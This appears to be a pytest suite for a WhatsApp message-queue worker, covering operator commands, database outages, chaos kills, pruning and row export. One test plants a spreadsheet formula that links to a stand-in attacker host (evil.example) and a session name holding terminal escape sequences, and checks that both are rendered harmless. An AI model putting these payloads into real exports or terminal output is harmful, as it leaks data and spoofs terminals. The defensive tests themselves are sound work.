"""Failure handling end to end: operator commands, database outages, crashes under load."""

from __future__ import annotations

import csv
import io
import random
import re
import signal
import subprocess
import threading
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.support.env import WORKER_BIN, base_env, eventually, run_worker
from tests.support.fakeapi import FakeCloudAPI, Step
from tests.support.processes import RUNBOOK, WorkerProcess
from tests.support.sql import SQL
from tests.support.tcpproxy import TcpProxy
from tests.support.terminal import Terminal
from worker.config import DatabaseURL


def test_operator_commands_pause_resume_cancel_and_retry(
    sql: SQL, db_url: DatabaseURL, fake_api: FakeCloudAPI, worker_env: Callable[..., dict[str, str]]
) -> None:
    held, closed = sql.add_session("held"), sql.add_session("closed")
    held_phones = sql.add_rows(held, 4)
    sql.add_rows(closed, 3, start=100)
    assert "paused: 4 waiting row(s) held back" in run_worker(db_url, "pause", "--session", str(held)).stdout
    assert "3 waiting row(s) closed as error" in run_worker(db_url, "cancel", "--session", str(closed)).stdout

    run = subprocess.run(
        [*WORKER_BIN, "run", "--once"], env=worker_env(), capture_output=True, text=True, timeout=60
    )
    assert run.returncode == 0 and fake_api.requests == []

    assert (
        "resumed: 4 held row(s) back in the queue"
        in run_worker(db_url, "resume", "--session", str(held)).stdout
    )
    fake_api.script(held_phones[0], Step.error(131026))
    fake_api.script(held_phones[1], Step.drop())
    subprocess.run([*WORKER_BIN, "run", "--once"], env=worker_env(), timeout=60, capture_output=True)
    assert sql.rows(
        "SELECT estado, COUNT(*) AS n FROM cola_envios WHERE sesion_id = %s GROUP BY estado ORDER BY estado",
        (held,),
    ) == [{"estado": "enviado", "n": 2}, {"estado": "error", "n": 1}, {"estado": "desconocido", "n": 1}]

    # 131026 is permanent: a plain retry leaves it and says so
    out = run_worker(db_url, "retry", "--session", str(held), "--yes").stdout
    assert "will queue 0 row(s) again" in out
    assert "1 row(s) with a permanent error stay (error code 131026 x1): add --force" in out
    out = run_worker(db_url, "retry", "--session", str(held), "--force", "--yes").stdout
    assert "1 row(s) queued again" in out
    subprocess.run([*WORKER_BIN, "run", "--once"], env=worker_env(), timeout=60, capture_output=True)
    assert fake_api.counts()[held_phones[0]] == 2  # the rejected row was sent again
    assert fake_api.counts()[held_phones[1]] == 1  # the unknown one was not, without the flag
    out = run_worker(db_url, "retry", "--session", str(held), "--only-unknown", "--yes").stdout
    assert "will queue 1 row(s) again (desconocido code - x1)" in out and "1 row(s) queued again" in out

    refused = run_worker(db_url, "resume", "--session", str(closed))
    assert refused.returncode == 1 and "is cancelled: cannot become active" in refused.stderr
    missing = run_worker(db_url, "pause", "--session", "999")
    assert missing.returncode == 1 and "there is no session '999'" in missing.stderr
    # every session command takes a name as well as an id
    by_name = run_worker(db_url, "pause", "--session", "held")
    assert by_name.returncode == 0 and f"session #{held} paused" in by_name.stdout
    status = run_worker(db_url, "status", "--session", "held")
    assert status.returncode == 0 and f"\n#{held} held" in status.stdout


def test_database_outage_mid_drain_completes_without_restart_or_duplicates(
    sql: SQL,
    db_url: DatabaseURL,
    fake_api: FakeCloudAPI,
    worker_env: Callable[..., dict[str, str]],
    tmp_path: Path,
) -> None:
    session = sql.add_session()
    phones = sql.add_rows(session, 400)
    fake_api.latency = 0.02
    with TcpProxy(db_url.host, db_url.port) as proxy:
        env = worker_env(
            WORKER_DATABASE_URL=proxy.database_url(db_url), WORKER_CONCURRENCY="8", WORKER_RATE_LIMIT="100"
        )
        daemon = WorkerProcess(env, "run", logs=tmp_path)
        assert fake_api.wait_for_requests(100, timeout=30)
        proxy.cut()
        cut_at = len(fake_api.requests)
        assert eventually(lambda: "database_unavailable" in daemon.stdout, 10)
        time.sleep(3)  # the outage window: the database stays away while the daemon keeps trying
        during = len(fake_api.requests) - cut_at
        proxy.restore()
        assert eventually(lambda: sql.states() == {"enviado": 400}, 60), sql.states()
        assert daemon.alive()  # it rode out the outage without exiting
        daemon.send_signal(signal.SIGTERM)
        assert daemon.wait(timeout=30) == 0, daemon.stderr
    assert during <= 8  # only the sends already in flight finished while it was cut off
    assert set(fake_api.counts().values()) == {1} and sorted(fake_api.counts()) == sorted(phones)
    assert sql.value("SELECT COUNT(*) FROM envios_whatsapp") == 400
    events = [e["event"] for e in daemon.events()]
    assert events.count("database_unavailable") == 1 and "database_available" in events


def test_chaos_kills_and_faults_never_duplicate_and_leave_every_row_final(
    sql: SQL, fake_api: FakeCloudAPI, worker_env: Callable[..., dict[str, str]], tmp_path: Path
) -> None:
    session = sql.add_session("chaos")
    sql.add_rows(session, 2000)
    fake_api.latency = 0.02
    fake_api.late_delay = 2.0
    fake_api.random_faults(
        seed=7,
        probabilities={
            "drop": 0.01,
            "late": 0.01,
            "error:130429": 0.03,
            "error:131026": 0.01,
            "error:131000": 0.01,
            "error:131056": 0.02,
        },
    )
    env = {
        i: worker_env(
            WORKER_PIDFILE=str(tmp_path / f"host{i}.pid"),
            WORKER_CONCURRENCY="10",
            WORKER_MAX_UNWRITTEN="5",
            WORKER_LEASE_SECONDS="3",
            WORKER_SEND_TIMEOUT="1",
            WORKER_RETRY_BASE="0.2",
            WORKER_RETRY_CAP="1",
            WORKER_MAX_ATTEMPTS="6",
        )
        for i in range(3)
    }
    daemons = {i: WorkerProcess(env[i], "run", logs=tmp_path) for i in range(3)}
    rng = random.Random(3)
    killed: list[int] = []
    token_window = threading.Timer(4.0, fake_api.fail_all, args=(Step.error(190, http_status=401),))
    token_window.start()
    token_back = threading.Timer(6.0, fake_api.fail_all, args=(None,))
    token_back.start()
    deadline = time.monotonic() + 90
    try:
        while time.monotonic() < deadline:
            done = sql.value(
                "SELECT COUNT(*) FROM cola_envios WHERE estado NOT IN ('pendiente', 'procesando')"
            )
            if done == 2000:
                break
            time.sleep(2.0)  # the chaos cadence: a kill every couple of seconds
            victim = rng.randrange(3)
            daemons[victim].send_signal(signal.SIGKILL)
            daemons[victim].wait(timeout=10)
            killed.append(daemons[victim].pid)
            daemons[victim] = WorkerProcess(env[victim], "run", logs=tmp_path)
    finally:
        token_window.cancel()
        token_back.cancel()
        for daemon in daemons.values():
            daemon.send_signal(signal.SIGTERM)
        for daemon in daemons.values():
            daemon.wait(timeout=30)

    states = sql.states()
    assert set(states) <= {"enviado", "error", "desconocido"}, states
    assert sum(states.values()) == 2000
    counts = fake_api.counts()
    assert max(counts.values()) <= 6
    # no phone was accepted twice: every request after an accepted one would be a duplicate
    accepted = fake_api.accepted
    assert all(len(wamids) == 1 for wamids in accepted.values())
    rows = {r["telefono"]: r for r in sql.rows("SELECT telefono, estado, wamid, last_error FROM cola_envios")}
    sent = {p for p, r in rows.items() if r["estado"] == "enviado"}
    assert sent <= set(accepted)  # no row the fake API never accepted is enviado
    assert all(rows[p]["wamid"] == accepted[p][0] for p in sent)
    # accepted but not recorded: only rows in flight at a kill, or answered after the timeout
    unrecorded = set(accepted) - sent
    assert all(rows[p]["estado"] == "desconocido" for p in unrecorded)
    # unknown because a lease expired: only rows a killed daemon held, at most its in-flight
    # sends plus its results not yet written (WORKER_CONCURRENCY + WORKER_MAX_UNWRITTEN)
    owners: Counter[int] = Counter()
    for r in rows.values():
        match = re.search(
            r"lease of [^:]+:(\d+):[0-9a-f]+ expired", r["last_error"] or ""
        )  # host:pid:instance
        if r["estado"] == "desconocido" and match:
            owners[int(match.group(1))] += 1
    assert set(owners) <= set(killed), (owners, killed)
    assert all(count <= 10 + 5 for count in owners.values()), owners
    assert sql.rows(RUNBOOK) == []


def test_failed_rows_are_listed_exported_and_retried_by_code(
    sql: SQL, db_url: DatabaseURL, fake_api: FakeCloudAPI, worker_env: Callable[..., dict[str, str]]
) -> None:
    session = sql.add_session("failed-work")
    phones = sql.add_rows(session, 6)
    for phone in phones[:2]:
        fake_api.script(phone, Step.error(131026))
    fake_api.script(phones[2], Step.error(100))
    fake_api.script(phones[3], Step.drop())
    subprocess.run([*WORKER_BIN, "run", "--once"], env=worker_env(), timeout=60, capture_output=True)

    listed = run_worker(db_url, "rows", "--session", "failed-work")
    assert listed.returncode == 0, listed.stderr
    header, *lines = listed.stdout.splitlines()
    assert header.split()[:6] == ["id", "phone", "client_id", "state", "tries", "code"]
    assert sorted(line.split()[1] for line in lines) == sorted(phones[:4])
    # aligned: each column starts where its title does
    assert {line.index(line.split()[3]) for line in lines} == {header.index("state")}
    assert "4 row(s)" in listed.stderr
    exported = run_worker(db_url, "rows", "--session", "failed-work", "--code", "131026", "--csv")
    table = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert sorted(r["telefono"] for r in table) == sorted(phones[:2])
    assert {r["estado"] for r in table} == {"error"} and {r["last_error_code"] for r in table} == {"131026"}

    refused = run_worker(db_url, "retry", "--session", "failed-work", "--code", "131026", "--yes")
    assert refused.returncode == 1 and "131026 is a permanent error" in refused.stderr
    retried = run_worker(db_url, "retry", "--session", "failed-work", "--code", "131026", "--force", "--yes")
    assert "2 row(s) queued again" in retried.stdout
    assert sql.value("SELECT COUNT(*) FROM cola_envios WHERE estado = 'pendiente'") == 2
    assert sql.value("SELECT last_error_code FROM cola_envios WHERE telefono = %s", (phones[2],)) == 100


def test_prune_deletes_old_finished_rows_and_keeps_the_rest(sql: SQL, db_url: DatabaseURL) -> None:
    session = sql.add_session()
    sql.add_rows(session, 10)
    ids = [r["id"] for r in sql.rows("SELECT id FROM cola_envios ORDER BY id")]
    old = "updated_at = NOW(6) - INTERVAL 40 DAY"
    for state, chosen in (("enviado", ids[:3]), ("error", ids[3:5]), ("desconocido", ids[5:6])):
        sql.execute(f"UPDATE cola_envios SET estado = %s, {old} WHERE id IN %s", (state, chosen))
    sql.execute("UPDATE cola_envios SET estado = 'enviado' WHERE id IN %s", (ids[6:8],))  # recent
    sql.execute(f"UPDATE cola_envios SET {old} WHERE id = %s", (ids[8],))  # old but still waiting
    sql.execute(
        "INSERT INTO envios_whatsapp (cola_id, sesion_id, telefono, wamid, fecha_envio)"
        " SELECT id, sesion_id, telefono, CONCAT('wamid.', id), NOW() - INTERVAL 40 DAY FROM cola_envios"
        " WHERE id IN %s",
        (ids[:3],),
    )

    sql.execute(  # the attempt history ages out by the same age: one old entry, one recent
        "INSERT INTO whatsapp_worker_attempts (cola_id, attempted_at, outcome, code) VALUES"
        " (%s, UTC_TIMESTAMP(6) - INTERVAL 40 DAY, 'retry', 130429), (%s, UTC_TIMESTAMP(6), 'retry', 130429)",
        (ids[3], ids[6]),
    )
    dry = run_worker(db_url, "prune", "--older-than", "30d", "--dry-run")
    assert dry.returncode == 0 and "would delete 5 finished row(s)" in dry.stdout
    assert "would delete 1 attempt history row(s)" in dry.stdout
    assert sql.value("SELECT COUNT(*) FROM cola_envios") == 10

    # Without a terminal to ask, nothing goes unless --yes says so (cron, a systemd timer).
    unasked = run_worker(db_url, "prune", "--older-than", "30d")
    assert unasked.returncode == 1 and "run again with --yes" in unasked.stderr
    assert "will delete 5 finished row(s) of cola_envios older than 30d (1 session(s)" in unasked.stdout
    assert sql.value("SELECT COUNT(*) FROM cola_envios") == 10
    done = run_worker(db_url, "prune", "--older-than", "30d", "--yes")
    assert "deleted 5 finished row(s)" in done.stdout and "envios_whatsapp kept" in done.stdout
    assert sql.value("SELECT cola_id FROM whatsapp_worker_attempts") == ids[6]
    left = {r["id"]: r["estado"] for r in sql.rows("SELECT id, estado FROM cola_envios")}
    assert sorted(left) == ids[5:] and left[ids[5]] == "desconocido"
    assert sql.value("SELECT COUNT(*) FROM envios_whatsapp") == 3  # the history the runbook reads

    history = run_worker(db_url, "prune", "--older-than", "30d", "--deliveries", "--yes")
    assert "3 of envios_whatsapp" in history.stdout
    assert sql.value("SELECT COUNT(*) FROM envios_whatsapp") == 0
    assert run_worker(db_url, "prune", "--older-than", "soon").returncode == 2
    month_or_minute = run_worker(db_url, "prune", "--older-than", "1m", "--yes")
    assert month_or_minute.returncode == 2 and "ambiguous" in month_or_minute.stderr
    assert "1min for minutes" in month_or_minute.stderr


def test_retry_aims_at_a_row_or_a_phone_keeps_its_attempts_and_gives_it_a_new_budget(
    sql: SQL, db_url: DatabaseURL, fake_api: FakeCloudAPI, worker_env: Callable[..., dict[str, str]]
) -> None:
    session = sql.add_session("aim")
    phones = sql.add_rows(session, 3)
    for phone in phones[:2]:  # throttled until the daemon gives up on them
        fake_api.script(phone, Step.error(130429), Step.error(130429))
    env = worker_env(WORKER_MAX_ATTEMPTS="2", WORKER_RETRY_BASE="0", WORKER_RETRY_CAP="0")

    def drain() -> None:
        done = subprocess.run([*WORKER_BIN, "run", "--once"], env=env, timeout=60, capture_output=True)
        assert done.returncode == 0, done.stderr

    def row(phone: str) -> dict[str, Any]:
        return sql.rows("SELECT id, estado, attempts FROM cola_envios WHERE telefono = %s", (phone,))[0]

    drain()
    assert [(row(p)["estado"], row(p)["attempts"]) for p in phones] == [
        ("error", 2),
        ("error", 2),
        ("enviado", 1),
    ]
    one = run_worker(db_url, "retry", "--session", "aim", "--id", str(row(phones[0])["id"]), "--yes")
    assert "will queue 1 row(s) again (error code 130429 x1)" in one.stdout, one.stderr
    drain()
    # its two throttled attempts are still counted, and it had a new budget to go out
    assert (row(phones[0])["estado"], row(phones[0])["attempts"]) == ("enviado", 3)
    assert (row(phones[1])["estado"], row(phones[1])["attempts"]) == ("error", 2)
    # its whole story: two throttled attempts, the operator's retry, the send
    story = run_worker(db_url, "rows", "--id", str(row(phones[0])["id"]))
    assert story.returncode == 0, story.stderr
    history = story.stdout.split("history", 1)[1].splitlines()[1:]
    assert [line.split()[2:5] for line in history] == [
        ["retry", "code", "130429"],
        ["error", "code", "130429"],
        ["requeued", "(was", "error)"],
    ]
    assert "gave up after 2 attempts" in history[1]
    assert (
        f"phone {phones[0]}" in story.stdout
        and "state enviado  attempts 3 (1 since the last retry)" in story.stdout
    )
    assert "wamid wamid." in story.stdout
    missing = run_worker(db_url, "rows", "--id", "999999")
    assert missing.returncode == 1 and "no row #999999" in missing.stderr
    by_phone = run_worker(db_url, "retry", "--session", "aim", "--phone", phones[1].lstrip("+"), "--yes")
    assert "1 row(s) queued again" in by_phone.stdout
    assert run_worker(db_url, "retry", "--session", "aim", "--phone", "12").returncode == 2
    # without a terminal to ask and without --yes, nothing is queued
    sql.execute("UPDATE cola_envios SET estado = 'error' WHERE telefono = %s", (phones[2],))
    unasked = run_worker(db_url, "retry", "--session", "aim")
    assert unasked.returncode == 1 and "--yes" in unasked.stderr
    assert row(phones[2])["estado"] == "error"


def test_rows_finds_by_phone_and_client_and_data_never_runs_in_a_spreadsheet_or_a_terminal(
    sql: SQL, db_url: DatabaseURL
) -> None:
    session = sql.add_session("Cobranza\x1b[2J\x1b]0;pwned\x07")  # a producer's name with escapes
    phones = sql.add_rows(session, 3)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    sql.execute(
        "UPDATE cola_envios SET estado = 'error', last_error_code = 100, last_error = %s,"
        " cliente_id = 7000 + id",
        (hostile,),
    )

    exported = run_worker(db_url, "rows", "--session", str(session), "--csv")
    table = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert {r["last_error"] for r in table if r["last_error"]} == {"'" + hostile}  # shown, never run
    assert {r["telefono"] for r in table} == set(phones)  # a phone's + is a number, left as it is
    assert all(r["updated_utc"] for r in table)

    client = sql.value("SELECT cliente_id FROM cola_envios WHERE telefono = %s", (phones[1],))
    by_client = run_worker(db_url, "rows", "--session", str(session), "--client-id", str(client))
    assert [line.split()[1] for line in by_client.stdout.splitlines()[1:]] == [phones[1]]
    by_phone = run_worker(db_url, "rows", "--session", str(session), "--phone", phones[2].lstrip("+"))
    assert [line.split()[1] for line in by_phone.stdout.splitlines()[1:]] == [phones[2]]
    assert run_worker(db_url, "rows", "--session", str(session), "--phone", "12").returncode == 2

    shown = run_worker(db_url, "status", "--session", str(session))
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout
    assert "Cobranza\\x1b[2J" in shown.stdout  # the name is still recognisable


def test_pause_all_and_pause_number_stop_every_claim_and_resume_gives_back_what_was_sending(
    sql: SQL, db_url: DatabaseURL, fake_api: FakeCloudAPI, worker_env: Callable[..., dict[str, str]]
) -> None:
    other = "2222222222"
    fake_api.other_numbers[other] = "token-of-the-other-number"
    own, second, paused_alone = sql.add_session("own"), sql.add_session("second"), sql.add_session("alone")
    sql.execute("UPDATE sesiones_envio SET phone_number_id = %s WHERE id = %s", (other, second))
    for index, session in enumerate((own, second, paused_alone)):
        sql.add_rows(session, 3, start=100 * index)
    assert run_worker(db_url, "pause", "--session", "alone").returncode == 0
    env = worker_env(**{f"WHATSAPP_ACCESS_TOKEN_{other}": "token-of-the-other-number"})

    said: list[bytes] = []

    def drain() -> dict[int, int]:
        done = subprocess.run([*WORKER_BIN, "run", "--once"], env=env, timeout=60, capture_output=True)
        assert done.returncode == 0, done.stderr
        said.append(done.stdout + done.stderr)
        rows = sql.rows(
            "SELECT sesion_id, COUNT(*) AS n FROM cola_envios WHERE estado = 'enviado' GROUP BY 1"
        )
        return {r["sesion_id"]: r["n"] for r in rows}

    held = run_worker(db_url, "pause", "--all", "--reason", "audit")
    assert held.returncode == 0 and "every number paused" in held.stdout
    assert "already paused" in run_worker(db_url, "pause", "--all").stdout
    assert drain() == {} and fake_api.requests == []
    assert b'"sending_held"' in said[-1] and b"every number" in said[-1]  # not a silent success
    shown = run_worker(db_url, "status").stdout
    assert shown.startswith("HELD by an operator since ") and "every number: audit" in shown.splitlines()[0]
    assert run_worker(db_url, "resume", "--all").returncode == 0
    assert run_worker(db_url, "pause", "--number", other).returncode == 0
    assert drain() == {own: 3}  # the other number is held, fleet-wide
    assert b'"sending_held"' in said[-1] and other.encode() in said[-1]
    assert "resumed" in run_worker(db_url, "resume", "--number", other).stdout
    assert drain() == {own: 3, second: 3}  # the session paused on its own stays paused
    assert "was not paused" in run_worker(db_url, "resume", "--all").stdout
    assert run_worker(db_url, "pause").returncode == 2  # one of --session, --all, --number
    typo = run_worker(db_url, "pause", "--number", "+51 987")  # a phone, not Meta's number id
    assert typo.returncode == 2 and "digits only" in typo.stderr


def test_prune_asks_a_person_at_the_terminal_before_deleting(sql: SQL, db_url: DatabaseURL) -> None:
    session = sql.add_session()
    sql.add_rows(session, 4)
    sql.execute("UPDATE cola_envios SET estado = 'enviado', updated_at = NOW(6) - INTERVAL 2 HOUR")

    def prune_answering(answer: bytes) -> tuple[int, str]:
        with Terminal([*WORKER_BIN, "prune", "--older-than", "90min"], base_env(db_url)) as terminal:
            asked = terminal.read_until(b"[y/N] ")
            terminal.write(answer)
            code, rest = terminal.finish()
            return code, asked + rest

    code, screen = prune_answering(b"n\n")
    assert code == 1 and "will delete 4 finished row(s)" in screen and "Delete them? [y/N]" in screen
    assert sql.value("SELECT COUNT(*) FROM cola_envios") == 4
    code, screen = prune_answering(b"y\n")
    assert code == 0 and "deleted 4 finished row(s)" in screen
    assert sql.value("SELECT COUNT(*) FROM cola_envios") == 0


def test_a_cancelled_session_ends_every_row_whenever_it_was_inserted(
    sql: SQL, db_url: DatabaseURL, fake_api: FakeCloudAPI, worker_env: Callable[..., dict[str, str]]
) -> None:
    session = sql.add_session("done-then-more")
    sql.add_rows(session, 2)
    subprocess.run([*WORKER_BIN, "run", "--once"], env=worker_env(), timeout=60, capture_output=True)
    assert sql.value("SELECT estado FROM sesiones_envio WHERE id = %s", (session,)) == "completada"
    # a completed session still sends what producers add: it can be paused and cancelled
    paused = run_worker(db_url, "pause", "--session", "done-then-more")
    assert paused.returncode == 0 and "paused" in paused.stdout, paused.stderr
    cancelled = run_worker(db_url, "cancel", "--session", "done-then-more")
    assert cancelled.returncode == 0 and "cancelled" in cancelled.stdout, cancelled.stderr
    sql.add_rows(session, 3, start=50)  # a producer that did not hear of the cancel
    subprocess.run([*WORKER_BIN, "run", "--once"], env=worker_env(), timeout=60, capture_output=True)
    assert len(fake_api.requests) == 2
    late = sql.rows("SELECT estado, last_error FROM cola_envios WHERE cliente_id > 50")
    assert [r["estado"] for r in late] == ["error"] * 3
    assert all("session cancelled" in r["last_error"] for r in late)


def test_parked_rows_follow_the_sessions_state_however_it_changed(
    sql: SQL, db_url: DatabaseURL, fake_api: FakeCloudAPI, worker_env: Callable[..., dict[str, str]]
) -> None:
    toggled, twice = sql.add_session("toggled"), sql.add_session("twice")
    toggled_phones = sql.add_rows(toggled, 3)
    sql.add_rows(twice, 2, start=100)
    ahead = (
        "SELECT COUNT(*) FROM cola_envios WHERE sesion_id = %s"
        " AND next_attempt_at > UTC_TIMESTAMP() + INTERVAL {}"
    )
    parked = ahead.format("50 YEAR")
    for session in (toggled, twice):
        assert "waiting row(s) held back" in run_worker(db_url, "pause", "--session", str(session)).stdout
    # the PHP admin's own toggle re-activates both; then one is paused again with our command
    sql.execute("UPDATE sesiones_envio SET estado = 'activa'")
    assert "paused: 0 waiting row(s) held back" in run_worker(db_url, "pause", "--session", str(twice)).stdout
    assert sql.value(ahead.format("150 YEAR"), (twice,)) == 0  # parked once, not twice

    # the daemon's sweep releases the rows of the session that is not paused any more
    run = subprocess.run(
        [*WORKER_BIN, "run", "--once"], env=worker_env(), capture_output=True, text=True, timeout=60
    )
    assert run.returncode == 0, run.stderr
    assert sorted(fake_api.counts()) == sorted(toggled_phones)
    assert sql.value(parked, (toggled,)) == 0 and sql.value(parked, (twice,)) == 2

    # `resume` of a session re-activated by hand still brings its parked rows back, and says so
    sql.execute("UPDATE sesiones_envio SET estado = 'activa' WHERE id = %s", (twice,))
    out = run_worker(db_url, "resume", "--session", str(twice)).stdout
    assert "already active: 2 row(s) an earlier pause held back are back in the queue" in out, out
    assert sql.value(parked, (twice,)) == 0
    assert (
        sql.value(
            "SELECT COUNT(*) FROM cola_envios WHERE sesion_id = %s AND next_attempt_at > UTC_TIMESTAMP()",
            (twice,),
        )
        == 0
    )
